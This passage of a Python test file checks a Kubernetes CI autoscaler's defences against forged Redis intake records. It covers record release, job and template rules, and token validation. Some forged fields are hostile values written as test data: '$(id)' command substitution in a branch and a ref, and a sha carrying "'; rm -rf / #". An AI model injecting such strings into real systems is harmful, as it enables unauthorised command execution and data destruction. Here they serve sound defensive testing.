                assert selector is not None, (case, peer)  # a podSelector alone: this namespace
                excluded = [e for e in selector.get("matchExpressions", [])
                            if e["key"] == "kubernetes.io/metadata.name"
                            and e["operator"] == "NotIn" and agents in e["values"]]
                assert excluded, (case, peer)


def test_chart_refuses_an_empty_or_blank_jenkins_token():
    for token in ("", None, " ", "\t", " 11aa22bb33cc44dd55ee66ff77aa88bb99", "11aa22\n"):
        with pytest.raises(Exception, match="(?i)jenkinsApiToken"):
            render_files(_values(secrets={**REQUIRED_VALUES["secrets"],
                                          "jenkinsApiToken": token}))
    for token in ("", "  "):
        with pytest.raises(Exception, match="(?i)gitlabWebhookToken"):
            render_files(_values(secrets={**REQUIRED_VALUES["secrets"],
                                          "gitlabWebhookToken": token}))
    render_files(_values(secrets={**REQUIRED_VALUES["secrets"],  # a space inside is a token
                                  "gitlabWebhookToken": "two words"}))


def test_chart_secrets_are_stable_across_renders(tmp_path):
    values = _values(agents__namespace="builds-y")
    assert objects_of(render_files(values)) == objects_of(render_files(values))
    with helm_cluster(tmp_path) as cluster:
        first = {o["metadata"]["name"]: o for o in cluster.render(values) if o["kind"] == "Secret"}
        assert first
        for name, secret in first.items():
            data = secret.get("data") or {}
            cluster.seed_secret(name, {k: base64.b64decode(v).decode() for k, v in data.items()})
        bare = _values()
        bare["secrets"] = {}
        bare["redis"] = {}
        bare["agents"] = {"namespace": "builds-y"}
        again = {o["metadata"]["name"]: o for o in cluster.render(bare) if o["kind"] == "Secret"}
        twice = {o["metadata"]["name"]: o for o in cluster.render(bare) if o["kind"] == "Secret"}
    assert {n: s.get("data") for n, s in again.items()} == \
        {n: s.get("data") for n, s in first.items()} == {n: s.get("data") for n, s in twice.items()}


@pytest.mark.parametrize("release", [
    {},  # no notification: nothing for the release job to confirm with Jenkins
    {"notification": None},
    {"reason": "expired"},
    {"reason": "build_completed", "notification": "COMPLETED"},
], ids=["no notification", "null notification", "another reason", "notification not a dict"])
def test_a_release_record_forged_through_the_web_user_does_not_release(parts, release):
    """A stolen web pod holds the cia-web user, which may RPUSH to the intake as every push
    does: a release record it writes must be confirmed with Jenkins as a notification is."""
    stack, kube, jenkins = parts["stack"], parts["kube"], parts["jenkins"]
    branch = "forged-release-" + uuid.uuid4().hex[:6]
    status, answer = post_push(parts, push_body(ref=f"refs/heads/{branch}"))
    assert status == 202, answer
    build = built(parts, branch)
    agent = _agent_of(build)
    wait_until(lambda: _kept(parts, agent), timeout=10, what="the agent's pod and node")
    jenkins.start_build(build.queue_id)
    assert stack.jenkins(jenkins.notification(build, "STARTED"))[0] == 200
    web = redis.Redis.from_url(parts["web_url"])
    set_aside = stack.text().count("set aside")
    web.rpush("cia:intake", json.dumps({"delivery": f"jenkins:release:{answer['build_key']}x",
                                        "release": {"build_key": answer["build_key"],
                                                    "agent_name": agent, **release}}))
    web.close()
    wait_until(lambda: stack.text().count("set aside") > set_aside
               or kube.pod(AGENTS, agent) is None, timeout=20,
               what=lambda: "the forged release set aside or acted on\n" + stack.text()[-3000:])
    assert _kept(parts, agent), "a forged release record released a running build's agent"


def _forged_record(parts, forged: dict) -> tuple[str, str]:
    """A push's record written through the web's Redis user, changed by `forged`; its key and
    branch."""
    key, branch = uuid.uuid4().hex[:20], "forged-record-" + uuid.uuid4().hex[:6]
    agent = f"cia-build-{key[:12]}"
    build = {"build_key": key, "agent_name": agent, "source": "gitlab", "project": "team/app",
             "ref": f"refs/heads/{branch}", "sha": uuid.uuid4().hex + "0" * 8,
             "user": "mallory", "job": "build", "template": "small",
             "parameters": {"CI_AUTOSCALER_AGENT": agent, "CI_AUTOSCALER_BUILD_KEY": key},
             "received_at": time.time(), "node_label": ""} | forged
    web = redis.Redis.from_url(parts["web_url"])
    web.rpush("cia:intake", json.dumps({"delivery": f"gitlab:{key}", "build": build}))
    web.close()
    return key, branch


@pytest.mark.parametrize("forged", [
    {"job": "deploy-prod"},  # a job no route names
    {"template": "other"},  # a template the routes do not give this push
    {"parameters": {"TARGET": "prod", "GIT_BRANCH": "$(id)"}},  # parameters of its own
    {"node_label": "built-in", "agent_name": "cia-deploy-000000000000"},  # another agent's
], ids=["another job", "another template", "other parameters", "another label"])
def test_a_build_record_forged_through_the_web_user_builds_only_what_the_routes_make(
        parts, forged):
    """The web's Redis user may RPUSH to the intake as every push does: of a record it writes,
    the worker takes the push's own fields only, and builds what its routes make of them."""
    jenkins = parts["jenkins"]
    key, branch = _forged_record(parts, forged)
    wait_until(lambda: jenkins.build_with("CI_AUTOSCALER_BUILD_KEY", key), timeout=20,
               what=lambda: "the forged record's push built\n" + parts["stack"].text()[-3000:])
    [build] = jenkins.build_with("CI_AUTOSCALER_BUILD_KEY", key)
    agent = build.parameters["CI_AUTOSCALER_AGENT"]
    assert build.job == "build" and agent.startswith("cia-build-")
    # what the worker sent (Jenkins keeps only the job's declared ones: SECURITY-170)
    request = json.loads(parts["admin"].hget(f"cia:build:{key}", "request"))
    assert (request["job"], request["template"], request["node_label"]) == ("build", "small", "")
    assert "TARGET" not in request["parameters"] and request["agent_name"] == agent
    assert {n: build.parameters.get(n) for n in ("GIT_BRANCH", "GITLAB_PROJECT", "GITLAB_USER")} \
        == {"GIT_BRANCH": branch, "GITLAB_PROJECT": "team/app", "GITLAB_USER": "mallory"}


@pytest.mark.parametrize("forged", [
    {"ref": "refs/heads/x\n$(id)"},  # a field the webhook would have ignored
    {"sha": "'; rm -rf / #" + "0" * 28},
], ids=["ref with a newline", "non-hex sha"])
def test_a_build_record_forged_through_the_web_user_is_set_aside(parts, forged):
    """A record whose push breaks the webhook's rules is no push GitLab sent: set aside."""
    stack, jenkins = parts["stack"], parts["jenkins"]
    set_aside = stack.text().count("set aside")
    key, _branch = _forged_record(parts, forged)
    wait_until(lambda: stack.text().count("set aside") > set_aside
               or jenkins.build_with("CI_AUTOSCALER_BUILD_KEY", key), timeout=20,
               what=lambda: "the forged record set aside or built\n" + stack.text()[-3000:])
    assert not jenkins.build_with("CI_AUTOSCALER_BUILD_KEY", key), \
        f"a forged intake record was built: {forged}"
